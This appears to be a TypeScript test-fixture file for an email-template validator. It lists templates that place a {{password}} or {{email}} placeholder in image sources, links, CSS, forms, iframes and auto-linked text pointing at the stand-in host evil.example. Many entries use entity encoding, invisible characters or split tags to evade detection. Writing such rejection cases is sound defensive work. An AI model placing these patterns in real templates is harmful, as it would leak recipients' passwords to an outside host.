const ELSEWHERE = 'https://evil.example';

/** A password in an attribute, however it is written there. */
const WRITTEN = [
  '{{password}}',
  '{{ password }}',
  '{{\tpassword\n}}',
  '&#123;&#123;password}}',
  '&#x7b;&#x7B;password&#x7d;&#125;',
  '{&#123;password}}',
  '&lbrace;&lcub;password&rcub;}',
  '{{pass&#119;ord}}',
  '{{pass\uE000word}}',
  '{\uE001{password}\uE000}',
  '\uE000password\uE001',
  '&#xE000;password&#xE001;',
  '{{&#xE000;password}}',
  '{{{password}}}',
  '{{{{password}}}}',
  '{{x{{password}}y}}',
  '{{pass{{x}}word}}',
  '{{pass{{primary_color}}word}}',
  '{{primary_color}}{{password}}',
  '{{course_url}}{{password}}',
  '{{course_url}}?p={{password}}',
  '{{email}}:{{password}}',
  '{{pass<b></b>word}}',
  '{{pass<!-- -->word}}',
];

const ATTRIBUTES = WRITTEN.flatMap((it) => [
  `<img src="${ELSEWHERE}/${it}">`,
  `<img src="${it}">`,
  `<img src='//evil.example/${it}.png' alt='${it}' title="${it}">`,
  `<img src="${ELSEWHERE}/a.png" srcset="${ELSEWHERE}/${it} 2x" longdesc="${ELSEWHERE}/${it}" lowsrc="${it}">`,
  `<a href="${ELSEWHERE}/?p=${it}">entre</a>`,
  `<a href="${it}" ping="${ELSEWHERE}/${it}">entre</a>`,
  `<a href="mailto:eu@evil.example?body=${it}">escreva</a>`,
  `<a href="mailto:${it}@evil.example">escreva</a>`,
  `<a href="tel:${it}">ligue</a>`,
  `<a href=${ELSEWHERE}/${it} title=${it} name=${it} id=${it} class=${it}>entre</a>`,
  `<p style="background:url(${ELSEWHERE}/${it})">oi</p>`,
  `<p style="background:#fff;font-family:'${it}';color:red">oi</p>`,
  `<p style="${it}:red;color:${it}">oi</p>`,
  `<td background="${ELSEWHERE}/${it}" bgcolor="${it}" width="${it}" lang="${it}" face="${it}">oi</td>`,
  `<font color="${it}" face="${ELSEWHERE}/${it}">oi</font>`,
  `<a href="https://{{course_url}}/" title="${it}"><img src="${ELSEWHERE}/a.png" alt="${it}"></a>`,
  `<p title="a"b="${it}" ${it}="${it}">oi</p>`,
  `<a title="x" href="${ELSEWHERE}/" href="${ELSEWHERE}/${it}">entre</a>`,
]);

const ELEMENTS = WRITTEN.flatMap((it) => [
  `<link rel="prefetch" href="${ELSEWHERE}/${it}"><base href="${ELSEWHERE}/${it}/">oi`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/${it}">oi`,
  `<style>@import "${ELSEWHERE}/${it}";</style><p>oi</p>`,
  `<form action="${ELSEWHERE}/${it}"><input name="p" value="${it}"><button formaction="${ELSEWHERE}/${it}">oi</button></form>`,
  `<iframe src="${ELSEWHERE}/${it}"></iframe><object data="${ELSEWHERE}/${it}"></object><embed src="${ELSEWHERE}/${it}">`,
  `<video poster="${ELSEWHERE}/${it}" src="${ELSEWHERE}/${it}"></video><svg><image href="${ELSEWHERE}/${it}"/></svg>`,
  `<!--[if mso]><v:fill src="${ELSEWHERE}/${it}"/><![endif]-->oi`,
  `<im${it}g src="${ELSEWHERE}/${it}"><${it} src="${ELSEWHERE}/${it}">`,
]);

/** Mail programs make links of addresses they find in a text, and some across the tags in it. */
const TEXTS = [
  `${ELSEWHERE}/?p={{password}}`,
  `${ELSEWHERE}/<b>{{password}}</b>`,
  `${ELSEWHERE}/?p=<b>x</b><i>{{ password }}</i>/y`,
  `www.evil.example/{{password}}`,
  `{{password}}.evil.example/x`,
  `{{password}}<b>.evil.example</b>`,
  `{{password}}.<b>evil.example</b>`,
  `evil.example?{{email}}&{{password}}`,
  `${ELSEWHERE}/{{email}}/{{password}}`,
  `{{password}}@evil.example`,
  `eu+{{password}}@evil.example`,
  `{{course_url}}@evil.example`,
  `{{course_url}}.evil.example`,
  `evil.example/{{course_url}}`,
  `${ELSEWHERE}/\u00a0{{password}}`,
  `${ELSEWHERE}/\u200b{{password}}`,
  `evil\u3002example/{{password}}`,
  `<a href="${ELSEWHERE}/">x</a>{{password}}`,
  `<a href="${ELSEWHERE}/">${ELSEWHERE}/?</a>{{password}}`,
  `<a href="${ELSEWHERE}/"></a>{{password}}`,
  `<table><tr><td>${ELSEWHERE}/?</td><td>{{password}}</td><td>.evil.example</td></tr></table>`,
  `<p>${ELSEWHERE}/</p>{{password}}<br>.evil.example`,
  `{{platform_name}}{{password}}`,
  `{{name}}{{password}}{{name}}`,
  `${ELSEWHERE}/&#123;&#123;password}}`,
  `${ELSEWHERE}/&lbrace;{password}}/x`,
];

/** Templates that would have a value read or fetched by somebody else. */
export const MISPLACED_VARIABLES: readonly string[] = [...ATTRIBUTES, ...ELEMENTS, ...TEXTS];
